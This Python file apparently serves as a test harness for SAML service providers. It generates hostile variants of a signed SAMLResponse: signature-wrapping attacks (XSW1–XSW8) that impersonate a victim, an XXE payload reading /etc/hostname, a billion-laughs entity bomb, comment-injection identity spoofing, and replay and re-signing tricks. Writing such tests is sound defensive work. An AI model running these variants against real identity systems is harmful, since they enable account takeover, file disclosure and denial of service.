"""Hostile variants of a valid signed SAMLResponse, each one an SP must refuse
(or, for comment_injection, must not read as the victim).

Every variant is a function variant(b64, *, idp=None, victim="alice") -> b64,
taking the base64 SAMLResponse the IdP posted. Those marked "idp" in VARIANTS
ask the IdP's /__control/sign for a freshly signed response (same user,
audience, recipient and InResponseTo as the original unless the attack
changes them), so they need idp (the IdP's base URL).

    python attacks.py --list
    python attacks.py [--idp URL] [--victim alice] VARIANT < response.b64 > variant.b64
    python attacks.py [--idp URL] --out DIR all < response.b64   # DIR/VARIANT.b64 each

Which signature a variant wants: xsw1, xsw2 wrap the Response signature (give
a response whose Response is signed); xsw3..xsw8 wrap the Assertion signature
(give a response whose Assertion is signed; they drop the Response signature,
which any change breaks anyway). The IdP signs both by default.
"""
import argparse
import base64
import copy
import datetime as dt
import json
import os
import re
import secrets
import sys
import urllib.request

import samlkit  # first: it quiets a warning that importing pysaml2 prints
from lxml import etree
from saml2 import samlp

NS = {"samlp": "urn:oasis:names:tc:SAML:2.0:protocol", "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
      "ds": "http://www.w3.org/2000/09/xmldsig#"}
EVIL_URL = "https://evil.example.com"


# ---------------------------------------------------------------- helpers

def _xml(b64):
    return base64.b64decode(b64).decode()


def _parse(b64):
    parser = etree.XMLParser(resolve_entities=False, no_network=True, remove_blank_text=False)
    return etree.fromstring(base64.b64decode(b64), parser)


def _out(root):
    return base64.b64encode(etree.tostring(root, xml_declaration=True, encoding="UTF-8")).decode()


def _q(tag):
    prefix, name = tag.split(":")
    return f"{{{NS[prefix]}}}{name}"


def _assertion(el):
    return el.find("saml:Assertion", NS)


def _drop_signature(el):
    """Removes el's own (direct child) signature."""
    for sig in el.findall("ds:Signature", NS):
        el.remove(sig)
    return el


def _become(assertion, victim):
    """Rewrites an assertion in place for the victim's address, with a new ID."""
    email = victim if "@" in victim else f"{victim}@example.com"
    assertion.set("ID", "_evil" + secrets.token_hex(8))
    assertion.find("saml:Subject/saml:NameID", NS).text = email
    for attr in assertion.iterfind("saml:AttributeStatement/saml:Attribute", NS):
        if attr.get("Name") == "email":
            for v in attr.findall("saml:AttributeValue", NS):
                v.text = email
    return assertion


def _evil_assertion(original, victim):
    return _become(_drop_signature(copy.deepcopy(original)), victim)


def facts(b64):
    """What a response says: name_id, name_id_format, email, audience, recipient, destination,
    in_response_to, response_signed, assertion_signed."""
    root = _parse(b64)
    a = _assertion(root)
    nid = a.find("saml:Subject/saml:NameID", NS)
    email = a.xpath("saml:AttributeStatement/saml:Attribute[@Name='email']/saml:AttributeValue/text()", namespaces=NS)
    return {
        "name_id": "".join(nid.itertext()), "name_id_format": nid.get("Format"),
        "email": email[0] if email else None,
        "audience": a.findtext("saml:Conditions/saml:AudienceRestriction/saml:Audience", namespaces=NS),
        "recipient": a.find("saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", NS).get("Recipient"),
        "destination": root.get("Destination"), "in_response_to": root.get("InResponseTo"),
        "response_signed": root.find("ds:Signature", NS) is not None,
        "assertion_signed": a.find("ds:Signature", NS) is not None,
    }


def sign_via_idp(idp, **fields):
    """The IdP's /__control/sign: a signed SAMLResponse (base64) for the JSON fields."""
    req = urllib.request.Request(f"{idp.rstrip('/')}/__control/sign", data=json.dumps(fields).encode(),
                                 headers={"content-type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as r:  # noqa: S310 (a local test IdP)
        return json.load(r)["SAMLResponse"]


def _resign_like(b64, idp, **changes):
    """The original's particulars, signed anew by the IdP with changes."""
    if not idp:
        raise ValueError("this variant needs the IdP's URL (idp=...)")
    f = facts(b64)
    fields = {"audience": f["audience"], "recipient": f["recipient"], "destination": f["destination"],
              "in_response_to": f["in_response_to"], "sign_response": f["response_signed"],
              "sign_assertion": f["assertion_signed"],
              "name_id_format": "email" if f["name_id_format"].endswith("emailAddress") else "persistent"}
    login = f["name_id"].removesuffix("@example.com")
    if f["name_id"].endswith("@example.com") and samlkit.valid_login(login):
        fields["login"] = login
    else:
        fields["name_id"], fields["email"] = f["name_id"], f["email"]
    fields.update(changes)
    return sign_via_idp(idp, **fields)


def _with_doctype(b64, subset, nameid_suffix):
    """The response's XML text with an internal DTD subset and nameid_suffix
    (an entity reference) appended to the NameID text."""
    xml = re.sub(r"^<\?xml[^>]*\?>\s*", "", _xml(b64))
    root_name = re.match(r"<([\w:.-]+)", xml).group(1)
    xml = re.sub(r"(<(?:\w+:)?NameID\b[^>]*>)([^<]*)", lambda m: m.group(1) + m.group(2) + nameid_suffix, xml, count=1)
    doc = f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {root_name} [\n{subset}\n]>\n{xml}'
    return base64.b64encode(doc.encode()).decode()


# ---------------------------------------------------------------- variants

def unsigned(b64, **_):
    """Every ds:Signature stripped."""
    root = _parse(b64)
    for sig in root.findall(".//ds:Signature", NS):
        sig.getparent().remove(sig)
    return _out(root)


def other_user(b64, *, victim="alice", **_):
    """NameID and email attribute changed to the victim's, the IdP's signatures kept as they were."""
    root = _parse(b64)
    a = _assertion(root)
    old_id = a.get("ID")
    _become(a, victim).set("ID", old_id)
    return _out(root)


def xsw1(b64, *, victim="alice", **_):
    """XSW1: an evil Response (new ID, evil assertion) whose copied Signature
    holds the original signed Response as a child; the signature still
    references (and validates) the original."""
    orig = _parse(b64)
    evil = copy.deepcopy(orig)
    evil.set("ID", "_evil" + secrets.token_hex(8))
    a = _assertion(evil)
    evil.replace(a, _evil_assertion(a, victim))
    evil.find("ds:Signature", NS).append(orig)
    return _out(evil)


def xsw2(b64, *, victim="alice", **_):
    """XSW2: as xsw1, but the original signed Response sits beside the
    Signature, before it (a detached signature)."""
    orig = _parse(b64)
    evil = copy.deepcopy(orig)
    evil.set("ID", "_evil" + secrets.token_hex(8))
    a = _assertion(evil)
    evil.replace(a, _evil_assertion(a, victim))
    sig = evil.find("ds:Signature", NS)
    sig.addprevious(orig)
    return _out(evil)


def _assertion_level(b64):
    root = _drop_signature(_parse(b64))
    a = _assertion(root)
    if a.find("ds:Signature", NS) is None:
        raise ValueError("xsw3..xsw8 need a response whose Assertion is signed")
    return root, a


def xsw3(b64, *, victim="alice", **_):
    """XSW3: an evil assertion (new ID, no signature) inserted before the original signed one."""
    root, a = _assertion_level(b64)
    a.addprevious(_evil_assertion(a, victim))
    return _out(root)


def xsw4(b64, *, victim="alice", **_):
    """XSW4: the original signed assertion wrapped inside an evil assertion."""
    root, a = _assertion_level(b64)
    evil = _evil_assertion(a, victim)
    root.replace(a, evil)
    evil.append(a)
    return _out(root)


def xsw5(b64, *, victim="alice", **_):
    """XSW5: the evil assertion carries the original's signature; an unsigned copy
    of the original (which that signature's reference finds) is appended to the Response."""
    root, a = _assertion_level(b64)
    evil = copy.deepcopy(a)
    _become(evil, victim)  # keeps the copied ds:Signature, which points at the original ID
    root.replace(a, evil)
    root.append(_drop_signature(a))
    return _out(root)


def xsw6(b64, *, victim="alice", **_):
    """XSW6: as xsw5, but the unsigned copy of the original sits inside the evil assertion's Signature."""
    root, a = _assertion_level(b64)
    evil = copy.deepcopy(a)
    _become(evil, victim)
    root.replace(a, evil)
    evil.find("ds:Signature", NS).append(_drop_signature(a))
    return _out(root)


def xsw7(b64, *, victim="alice", **_):
    """XSW7: the original signed assertion hidden in samlp:Extensions; an evil unsigned assertion in its place."""
    root, a = _assertion_level(b64)
    evil = _evil_assertion(a, victim)
    root.replace(a, evil)
    ext = etree.Element(_q("samlp:Extensions"))
    ext.append(a)
    root.find("saml:Issuer", NS).addnext(ext)
    return _out(root)


def xsw8(b64, *, victim="alice", **_):
    """XSW8: the evil assertion carries the original's signature, with an unsigned
    copy of the original inside a ds:Object of that signature."""
    root, a = _assertion_level(b64)
    evil = copy.deepcopy(a)
    _become(evil, victim)
    root.replace(a, evil)
    obj = etree.SubElement(evil.find("ds:Signature", NS), _q("ds:Object"))
    obj.append(_drop_signature(a))
    return _out(root)


def expired(b64, *, idp=None, **_):
    """Re-signed by the IdP's own key, NotOnOrAfter an hour in the past (NotBefore two)."""
    now = dt.datetime.now(dt.timezone.utc).timestamp()
    return _resign_like(b64, idp, not_on_or_after=now - 3600, not_before=now - 7200)


def wrong_audience(b64, *, idp=None, **_):
    """Re-signed by the IdP, Audience another SP's entity id."""
    return _resign_like(b64, idp, audience=f"{EVIL_URL}/sso/saml/metadata")


def wrong_recipient(b64, *, idp=None, **_):
    """Re-signed by the IdP, Destination and SubjectConfirmationData/@Recipient another SP's ACS."""
    return _resign_like(b64, idp, recipient=f"{EVIL_URL}/sso/saml/acs", destination=f"{EVIL_URL}/sso/saml/acs")


def replayed(b64, **_):
    """The same response again: post it twice; the second must be refused
    (the InResponseTo/RelayState is used up, or the assertion ID is remembered)."""
    return b64


def xxe(b64, *, idp=None, **_):
    """A DOCTYPE with external entities used in the NameID: a local file and,
    when idp is given, the IdP's /__canary/ as a general and as a parameter
    entity (GET /__control/canary afterwards must show no new hit)."""
    subset, refs = '<!ENTITY xxe SYSTEM "file:///etc/hostname">', "&xxe;"
    if idp:
        canary = f'{idp.rstrip("/")}/__canary/xxe-{secrets.token_hex(6)}'
        subset += (f'\n<!ENTITY xxe_net SYSTEM "{canary}-general">'
                   f'\n<!ENTITY % remote SYSTEM "{canary}-parameter">\n%remote;')
        refs += "&xxe_net;"
    return _with_doctype(b64, subset, refs)


def billion_laughs(b64, **_):
    """Nested internal entities (10^9 "lol"s, ~3 GB expanded) used in the NameID."""
    ents = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return _with_doctype(b64, "\n".join(ents), "&lol9;")


def huge(b64, *, size=5 << 20, **_):
    """A ~5 MB XML comment inside the Response: the signatures stay valid
    (exclusive C14N drops comments), so only a size limit refuses it."""
    root = _parse(b64)
    root.insert(0, etree.Comment(" " + "A" * size + " "))
    return _out(root)


def stranger_key(b64, **_):
    """The same content signed (where the original was) by a self-made stranger
    key, its certificate in KeyInfo."""
    f = facts(b64)
    response = samlp.response_from_string(_xml(b64))
    keys = samlkit.KeyPair("stranger")
    xml = samlkit.sign(response, keys, sign_response=f["response_signed"], sign_assertion=f["assertion_signed"])
    return samlkit.b64(xml)


def comment_injection(b64, *, idp=None, victim="alice", **_):
    """The IdP signs a NameID and email of victim@example.com.evil.com (a user
    at the IdP), then a comment is put in: victim@example.com<!---->.evil.com.
    The signature stays valid; an SP that reads only the first text node sees
    the victim. Right: reject it or read the whole victim@example.com.evil.com."""
    email = (victim if "@" in victim else f"{victim}@example.com")
    evil = email + ".evil.com"
    xml = _xml(_resign_like(b64, idp, login=None, name_id=evil, email=evil))
    xml = xml.replace(f">{evil}<", f">{email}<!---->.evil.com<")
    return samlkit.b64(xml)


# name -> (function, needs the IdP's URL)
VARIANTS = {f.__name__: (f, n) for f, n in [
    (unsigned, False), (other_user, False),
    (xsw1, False), (xsw2, False), (xsw3, False), (xsw4, False),
    (xsw5, False), (xsw6, False), (xsw7, False), (xsw8, False),
    (expired, True), (wrong_audience, True), (wrong_recipient, True), (replayed, False),
    (xxe, False), (billion_laughs, False), (huge, False), (stranger_key, False), (comment_injection, True),
]}


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("variants", nargs="*", help="variant names, or all")
    ap.add_argument("--idp", help="the IdP's base URL (for the variants it re-signs)")
    ap.add_argument("--victim", default="alice", help="login or address to impersonate (default alice)")
    ap.add_argument("--out", help="a directory: write VARIANT.b64 there")
    ap.add_argument("--list", action="store_true", help="list the variants")
    args = ap.parse_args(argv)
    if args.list or not args.variants:
        for name, (f, needs_idp) in VARIANTS.items():
            print(f"{name:18} {'[idp] ' if needs_idp else ''}{' '.join(f.__doc__.split())}")
        return 0
    names = list(VARIANTS) if args.variants == ["all"] else args.variants
    if unknown := [n for n in names if n not in VARIANTS]:
        ap.error(f"unknown variants: {unknown}")
    if len(names) > 1 and not args.out:
        ap.error("more than one variant needs --out DIR")
    original = sys.stdin.read().strip()
    for name in names:
        f, needs_idp = VARIANTS[name]
        if needs_idp and not args.idp:
            print(f"skip {name}: needs --idp", file=sys.stderr)
            continue
        result = f(original, idp=args.idp, victim=args.victim)
        if args.out:
            os.makedirs(args.out, exist_ok=True)
            with open(os.path.join(args.out, f"{name}.b64"), "w") as fh:
                fh.write(result)
        else:
            print(result)
    return 0


if __name__ == "__main__":
    sys.exit(main())
